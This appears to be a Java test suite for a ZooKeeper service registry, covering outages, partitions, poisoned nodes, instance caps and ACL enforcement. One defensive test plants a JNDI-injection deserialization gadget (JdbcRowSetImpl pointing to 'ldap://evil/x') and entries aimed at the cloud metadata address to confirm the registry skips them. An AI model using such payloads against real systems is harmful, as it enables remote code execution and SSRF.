package dev.switchboard.discovery.zk;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import dev.switchboard.discovery.zk.internal.InstanceCodec;
import dev.switchboard.rpc.InstanceState;
import dev.switchboard.rpc.registry.ExportedService;
import dev.switchboard.rpc.registry.ProviderInstance;
import dev.switchboard.rpc.registry.Registry;
import dev.switchboard.rpc.registry.ServiceInstance;
import dev.switchboard.rpc.testing.Closer;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.apache.curator.framework.CuratorFramework;
import org.apache.curator.framework.CuratorFrameworkFactory;
import org.apache.curator.framework.state.ConnectionState;
import org.apache.curator.retry.RetryOneTime;
import org.apache.curator.test.InstanceSpec;
import org.apache.curator.test.TestingServer;
import org.apache.zookeeper.CreateMode;
import org.apache.zookeeper.KeeperException;
import org.apache.zookeeper.data.Stat;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * The registry when ZooKeeper or its data misbehave: outages, partitions, deleted and poisoned
 * nodes, cold starts, ACLs. Each test has its own ZooKeeper server with a 200 ms tick, so
 * sessions of 0.4 to 4 s can expire within a test.
 */
@Timeout(90)
class ZkHardeningTest {
  private static final String SERVICE = "helloworld.Greeter";
  private static final String ROOT = "/hardening";

  private final Closer closer = new Closer();
  private TestingServer zookeeper;
  private CuratorFramework admin;

  @TempDir
  Path snapshots;

  @BeforeEach
  void setUp() throws Exception {
    zookeeper = track(new TestingServer(new InstanceSpec(null, -1, -1, -1, true, -1, 200, -1),
        true));
    admin = curator(zookeeper.getConnectString(), 4_000);
  }

  @AfterEach
  void tearDown() throws Exception {
    closer.close();
  }

  private <T extends AutoCloseable> T track(T resource) {
    return closer.register(resource);
  }

  private CuratorFramework curator(String connectString, int sessionTimeoutMs) {
    CuratorFramework client = track(CuratorFrameworkFactory.builder()
        .connectString(connectString).namespace(ROOT.substring(1))
        .sessionTimeoutMs(sessionTimeoutMs).connectionTimeoutMs(1_000)
        .retryPolicy(new RetryOneTime(100)).build());
    client.start();
    return client;
  }

  private String uri(String parameters) {
    return "zk://" + zookeeper.getConnectString() + ROOT + "?sessionTimeout=PT4S&" + parameters;
  }

  private Registry open(String uri) {
    return track(ZkRegistry.open(ZkRegistryConfig.fromUri(URI.create(uri))));
  }

  private static ProviderInstance instance(String host, int port) {
    return new ProviderInstance(ProviderInstance.newInstanceId(host, port), "greeter", host, port,
        InstanceState.SERVING, Instant.now(), List.of(ExportedService.of(SERVICE)));
  }

  private static String instancePath(ProviderInstance instance) {
    return "/v1/apps/greeter/instances/" + instance.instanceId();
  }

  private SnapshotRecorder watch(Registry registry, int expectedSize) {
    SnapshotRecorder recorder = new SnapshotRecorder();
    registry.watch(SERVICE, recorder);
    await().atMost(Duration.ofSeconds(10)).until(() -> recorder.latest() != null
        && recorder.latest().size() == expectedSize);
    return recorder;
  }

  private static List<ConnectionState> recordStates(CuratorFramework client) {
    List<ConnectionState> states = new CopyOnWriteArrayList<>();
    client.getConnectionStateListenable().addListener((c, state) -> states.add(state));
    return states;
  }

  private static List<Integer> ports(List<ServiceInstance> snapshot) {
    return snapshot.stream().map(ServiceInstance::port).toList();
  }

  /** S9: an operator (or a bug) deletes every instance node at once. */
  @Test
  void allInstanceNodesDeletedAtOnceNeverEmptiesConsumersAndProvidersReturn() throws Exception {
    Registry providers = open(uri("snapshotDir=none"));
    List<ProviderInstance> instances = List.of(instance("127.0.0.1", 7001),
        instance("127.0.0.1", 7002), instance("127.0.0.1", 7003));
    instances.forEach(providers::register);
    SnapshotRecorder consumer = watch(open(uri("snapshotDir=none")), 3);
    int before = consumer.snapshots.size();

    admin.delete().deletingChildrenIfNeeded().forPath("/v1/apps/greeter");

    await().atMost(Duration.ofSeconds(10)).until(() -> {
      for (ProviderInstance instance : instances) {
        if (admin.checkExists().forPath(instancePath(instance)) == null) {
          return false;
        }
      }
      return true;
    });
    await().atMost(Duration.ofSeconds(10)).until(() -> consumer.latest().size() == 3);
    // Nodes vanish one by one: losing one of three passes, losing more is held.
    assertThat(consumer.snapshots.subList(before - 1, consumer.snapshots.size()))
        .allSatisfy(snapshot -> assertThat(snapshot).hasSizeGreaterThanOrEqualTo(2));
  }

  /** S14: a consumer starts while ZooKeeper is down and uses its disk snapshot. */
  @Test
  void consumerStartingWhileZooKeeperIsDownUsesItsDiskSnapshot() throws Exception {
    String uri = uri("snapshotDir=" + snapshots + "&connectionTimeout=PT1S");
    ProviderInstance instance = instance("127.0.0.1", 7001);
    open(uri("snapshotDir=none")).register(instance);
    Registry first = open(uri);
    watch(first, 1);
    first.close();
    zookeeper.stop();

    SnapshotRecorder cold = new SnapshotRecorder();
    open(uri).watch(SERVICE, cold);

    await().atMost(Duration.ofSeconds(10)).until(() -> cold.latest() != null);
    assertThat(cold.latestIds()).containsExactly(instance.instanceId());
    assertThat(cold.errors).isEmpty();

    SnapshotRecorder withoutSnapshot = new SnapshotRecorder();
    open(uri("snapshotDir=none&connectionTimeout=PT1S")).watch(SERVICE, withoutSnapshot);
    await().atMost(Duration.ofSeconds(10)).until(() -> !withoutSnapshot.errors.isEmpty());
    assertThat(withoutSnapshot.latest()).isNull();
  }

  /**
   * S6: a consumer is cut off from ZooKeeper past its session timeout while a provider's node is
   * deleted and recreated under the same name with a new address (same version 0); after the
   * partition heals it must see the new address.
   */
  @Test
  void partitionedConsumerConvergesAfterHealEvenWhenANodeWasRecreatedUnderItsName()
      throws Exception {
    ProviderInstance before = instance("127.0.0.1", 7001);
    ProviderInstance moved = new ProviderInstance(before.instanceId(), "greeter", "127.0.0.1",
        7002, InstanceState.SERVING, before.startedAt(), before.services());
    admin.create().creatingParentsIfNeeded().forPath("/v1/services/" + SERVICE + "/greeter");
    admin.create().creatingParentsIfNeeded().withMode(CreateMode.EPHEMERAL)
        .forPath(instancePath(before), InstanceCodec.encode(before));
    TcpProxy proxy = track(new TcpProxy(zookeeper.getPort()));
    CuratorFramework consumerClient = curator(proxy.connectString(), 2_000);
    List<ConnectionState> states = recordStates(consumerClient);
    SnapshotRecorder consumer = watch(track(ZkRegistry.using(consumerClient,
        Duration.ofSeconds(1))), 1);

    proxy.cut();
    admin.delete().forPath(instancePath(before));
    admin.create().withMode(CreateMode.EPHEMERAL)
        .forPath(instancePath(moved), InstanceCodec.encode(moved));
    await().atMost(Duration.ofSeconds(20)).until(() -> states.contains(ConnectionState.LOST));
    assertThat(ports(consumer.latest())).containsExactly(7001); // last known good meanwhile
    proxy.heal();

    await().atMost(Duration.ofSeconds(20)).untilAsserted(() ->
        assertThat(ports(consumer.latest())).containsExactly(7002));
    assertThat(consumer.snapshots).allSatisfy(snapshot -> assertThat(snapshot).hasSize(1));
  }

  /** S1: ZooKeeper down for less than the session timeout changes nothing anywhere. */
  @Test
  void shortOutageCausesNoRegistryWritesAndNoConsumerChange() throws Exception {
    CuratorFramework providerClient = curator(zookeeper.getConnectString(), 4_000);
    List<ConnectionState> states = recordStates(providerClient);
    Registry provider = track(ZkRegistry.using(providerClient, Duration.ofSeconds(1)));
    ProviderInstance instance = instance("127.0.0.1", 7001);
    provider.register(instance).awaitRegistered(Duration.ofSeconds(10));
    Stat registered = admin.checkExists().forPath(instancePath(instance));
    SnapshotRecorder consumer = watch(open(uri("snapshotDir=none")), 1);
    List<List<ServiceInstance>> seen = List.copyOf(consumer.snapshots);

    zookeeper.stop();
    await().atMost(Duration.ofSeconds(10)).until(() -> states.contains(ConnectionState.SUSPENDED));
    zookeeper.restart();
    await().atMost(Duration.ofSeconds(10)).until(() ->
        states.contains(ConnectionState.RECONNECTED));
    ProviderInstance marker = instance("127.0.0.1", 7002);
    provider.register(marker);
    await().atMost(Duration.ofSeconds(10)).until(() -> consumer.latest().size() == 2);

    Stat after = admin.checkExists().forPath(instancePath(instance));
    assertThat(after.getCzxid()).isEqualTo(registered.getCzxid());
    assertThat(after.getMzxid()).isEqualTo(registered.getMzxid());
    assertThat(states).doesNotContain(ConnectionState.LOST);
    assertThat(consumer.snapshots).hasSize(seen.size() + 1); // only the marker arrived
  }

  /** A provider registered through a proxy that can cut its ZooKeeper connection. */
  private record ProxiedProvider(TcpProxy proxy, List<ConnectionState> states,
      ProviderInstance instance, Stat registered) {}

  private ProxiedProvider providerBehindProxy() throws Exception {
    TcpProxy proxy = track(new TcpProxy(zookeeper.getPort()));
    CuratorFramework providerClient = curator(proxy.connectString(), 4_000);
    List<ConnectionState> states = recordStates(providerClient);
    Registry provider = track(ZkRegistry.using(providerClient, Duration.ofSeconds(1)));
    ProviderInstance instance = instance("127.0.0.1", 7001);
    provider.register(instance).awaitRegistered(Duration.ofSeconds(10));
    return new ProxiedProvider(proxy, states, instance,
        admin.checkExists().forPath(instancePath(instance)));
  }

  /** S7: a provider's connection flaps (five cuts, each healed once noticed): nothing moves. */
  @Test
  void flappingProviderConnectionWritesNothingAndConsumersSeeNothing() throws Exception {
    ProxiedProvider provider = providerBehindProxy();
    TcpProxy proxy = provider.proxy();
    List<ConnectionState> states = provider.states();
    ProviderInstance instance = provider.instance();
    Stat registered = provider.registered();
    SnapshotRecorder consumer = watch(open(uri("snapshotDir=none")), 1);
    int snapshots = consumer.snapshots.size();

    for (int flap = 1; flap <= 5; flap++) {
      int seen = flap;
      proxy.cut();
      await().atMost(Duration.ofSeconds(10)).until(() ->
          states.stream().filter(ConnectionState.SUSPENDED::equals).count() == seen);
      proxy.heal();
      await().atMost(Duration.ofSeconds(10)).until(() ->
          states.stream().filter(ConnectionState.RECONNECTED::equals).count() == seen);
    }

    Stat after = admin.checkExists().forPath(instancePath(instance));
    assertThat(states).doesNotContain(ConnectionState.LOST);
    assertThat(after.getCzxid()).isEqualTo(registered.getCzxid());
    assertThat(after.getMzxid()).isEqualTo(registered.getMzxid());
    assertThat(consumer.snapshots).hasSize(snapshots);
  }

  /**
   * A reconnect that keeps the session reads nothing, so a node deleted while the provider was
   * cut off must come back through its watch, which the client sets again on reconnecting.
   */
  @Test
  void aNodeDeletedWhileItsProviderWasCutOffIsRecreatedAfterTheReconnect() throws Exception {
    ProxiedProvider provider = providerBehindProxy();
    TcpProxy proxy = provider.proxy();
    List<ConnectionState> states = provider.states();
    ProviderInstance instance = provider.instance();
    Stat registered = provider.registered();

    proxy.cut();
    await().atMost(Duration.ofSeconds(10)).until(() -> states.contains(ConnectionState.SUSPENDED));
    admin.delete().forPath(instancePath(instance)); // the session lives on: only a delete
    proxy.heal();
    await().atMost(Duration.ofSeconds(10)).until(() ->
        states.contains(ConnectionState.RECONNECTED));

    Stat recreated = await().atMost(Duration.ofSeconds(10)).until(
        () -> admin.checkExists().forPath(instancePath(instance)), stat -> stat != null);
    assertThat(recreated.getCzxid()).isGreaterThan(registered.getCzxid());
    assertThat(states).doesNotContain(ConnectionState.LOST);
  }

  /** S10: poisoned and hostile entries are skipped; everything else is unaffected. */
  @Test
  void hostileEntriesAreSkippedAndAbsurdWeightsClamped() throws Exception {
    Registry provider = open(uri("snapshotDir=none"));
    ProviderInstance good = instance("10.0.0.1", 7001);
    provider.register(good).awaitRegistered(Duration.ofSeconds(10));
    SnapshotRecorder consumer = watch(open(uri("snapshotDir=none&allowLoopback=false")), 1);

    String parent = "/v1/apps/greeter/instances/";
    for (String host : List.of("169.254.169.254", "127.0.0.1", "0.0.0.0", "fe80::1")) {
      ProviderInstance hostile = instance(host, 7002);
      admin.create().withMode(CreateMode.EPHEMERAL)
          .forPath(parent + hostile.instanceId(), InstanceCodec.encode(hostile));
    }
    String gadget = "{\"schema\":1,\"@class\":\"com.sun.rowset.JdbcRowSetImpl\","
        + "\"dataSourceName\":\"ldap://evil/x\",\"autoCommit\":true}";
    admin.create().withMode(CreateMode.EPHEMERAL).forPath(parent + "gadget",
        gadget.getBytes(StandardCharsets.UTF_8));
    admin.create().withMode(CreateMode.EPHEMERAL).forPath(parent + "huge", new byte[100_000]);
    ProviderInstance greedy = instance("10.0.0.2", 7003);
    String inflated = new String(InstanceCodec.encode(greedy), StandardCharsets.UTF_8)
        .replace("\"weight\":100", "\"weight\":2000000000");
    admin.create().withMode(CreateMode.EPHEMERAL).forPath(parent + greedy.instanceId(),
        inflated.getBytes(StandardCharsets.UTF_8));

    await().atMost(Duration.ofSeconds(10)).until(() -> consumer.latest().size() == 2);
    assertThat(consumer.latest()).extracting(ServiceInstance::host)
        .containsExactlyInAnyOrder("10.0.0.1", "10.0.0.2");
    assertThat(consumer.latest()).filteredOn(i -> i.host().equals("10.0.0.2"))
        .extracting(ServiceInstance::weight).containsExactly(10_000);
    assertThat(consumer.snapshots).allSatisfy(snapshot -> assertThat(snapshot).isNotEmpty());
  }

  /** S10: thousands of forged entries are capped: the oldest registrations stay, loudly. */
  @Test
  void instancesBeyondTheCapAreSkippedKeepingTheOldest() throws Exception {
    Registry provider = open(uri("snapshotDir=none"));
    List<ProviderInstance> genuine = List.of(instance("10.0.0.1", 7001),
        instance("10.0.0.2", 7001), instance("10.0.0.3", 7001));
    for (ProviderInstance instance : genuine) {
      provider.register(instance).awaitRegistered(Duration.ofSeconds(10));
    }
    SnapshotRecorder consumer = watch(open(uri("snapshotDir=none&maxInstances=3")), 3);

    for (int i = 0; i < 20; i++) {
      ProviderInstance forged = instance("10.6.6." + (i + 1), 7001);
      admin.create().withMode(CreateMode.EPHEMERAL)
          .forPath(instancePath(forged), InstanceCodec.encode(forged));
    }
    ProviderInstance marker = instance("10.0.0.4", 7001);
    provider.register(marker).awaitRegistered(Duration.ofSeconds(10));
    provider.close(); // genuine ones leave; the cap now admits forged ones, oldest first

    await().atMost(Duration.ofSeconds(10)).untilAsserted(() ->
        assertThat(consumer.latest()).extracting(ServiceInstance::host)
            .containsExactly("10.6.6.1", "10.6.6.2", "10.6.6.3"));
    assertThat(consumer.snapshots).allSatisfy(snapshot -> assertThat(snapshot).hasSize(3));
  }

  /** Security: with digest credentials, only the provider identity may write; anyone reads. */
  @Test
  void credentialedRegistryRefusesUnauthenticatedWriters() throws Exception {
    String authenticated = "zk://provider:s3cret@" + zookeeper.getConnectString() + ROOT
        + "?snapshotDir=none";
    ProviderInstance instance = instance("127.0.0.1", 7001);
    open(authenticated).register(instance).awaitRegistered(Duration.ofSeconds(10));
    SnapshotRecorder anonymousConsumer = watch(open(uri("snapshotDir=none")), 1);
    assertThat(anonymousConsumer.latestIds()).containsExactly(instance.instanceId());

    CuratorFramework intruder = curator(zookeeper.getConnectString(), 4_000);
    ProviderInstance fake = instance("127.0.0.1", 7666);
    assertThat(intruder.getData().forPath(instancePath(instance))).isNotEmpty();
    assertThatThrownBy(() -> intruder.create().withMode(CreateMode.EPHEMERAL)
        .forPath(instancePath(fake), InstanceCodec.encode(fake)))
        .isInstanceOf(KeeperException.NoAuthException.class);
    assertThatThrownBy(() -> intruder.delete().forPath(instancePath(instance)))
        .isInstanceOf(KeeperException.NoAuthException.class);
    assertThatThrownBy(() -> intruder.setData().forPath(instancePath(instance), new byte[1]))
        .isInstanceOf(KeeperException.NoAuthException.class);
    assertThatThrownBy(() -> intruder.create().forPath("/v1/services/" + SERVICE + "/evil"))
        .isInstanceOf(KeeperException.NoAuthException.class);
    assertThatThrownBy(() -> intruder.create().forPath("/v1/apps/evil"))
        .isInstanceOf(KeeperException.NoAuthException.class);

    CuratorFramework wrongPassword = track(CuratorFrameworkFactory.builder()
        .connectString(zookeeper.getConnectString()).namespace(ROOT.substring(1))
        .authorization("digest", "provider:guess".getBytes(StandardCharsets.UTF_8))
        .retryPolicy(new RetryOneTime(100)).build());
    wrongPassword.start();
    assertThatThrownBy(() -> wrongPassword.delete().forPath(instancePath(instance)))
        .isInstanceOf(KeeperException.NoAuthException.class);
  }

  /** S16: the create was applied but its answer lost: our own node is adopted, not replaced. */
  @Test
  void nodeAlreadyCreatedByOurSessionIsAdoptedWithoutAFlap() throws Exception {
    CuratorFramework client = curator(zookeeper.getConnectString(), 4_000);
    ProviderInstance instance = instance("127.0.0.1", 7001);
    client.create().creatingParentsIfNeeded().withMode(CreateMode.EPHEMERAL)
        .forPath(instancePath(instance), InstanceCodec.encode(instance));
    long created = admin.checkExists().forPath(instancePath(instance)).getCzxid();

    Registry registry = track(ZkRegistry.using(client, Duration.ofSeconds(1)));
    assertThat(registry.register(instance).awaitRegistered(Duration.ofSeconds(10))).isTrue();

    assertThat(admin.checkExists().forPath(instancePath(instance)).getCzxid()).isEqualTo(created);
  }

  /** S17: two live registrations of one host:port are both kept; consumers see one endpoint. */
  @Test
  void duplicateEndpointsAreDeduplicatedWithoutADeleteLoop() throws Exception {
    Registry first = open(uri("snapshotDir=none"));
    Registry second = open(uri("snapshotDir=none"));
    ProviderInstance older = instance("127.0.0.1", 7001);
    first.register(older).awaitRegistered(Duration.ofSeconds(10));
    ProviderInstance newer = instance("127.0.0.1", 7001);
    second.register(newer).awaitRegistered(Duration.ofSeconds(10));

    SnapshotRecorder consumer = watch(open(uri("snapshotDir=none")), 1);

    assertThat(consumer.latestIds()).containsExactly(newer.instanceId());
    assertThat(admin.getChildren().forPath("/v1/apps/greeter/instances"))
        .containsExactlyInAnyOrder(older.instanceId(), newer.instanceId());
  }
}
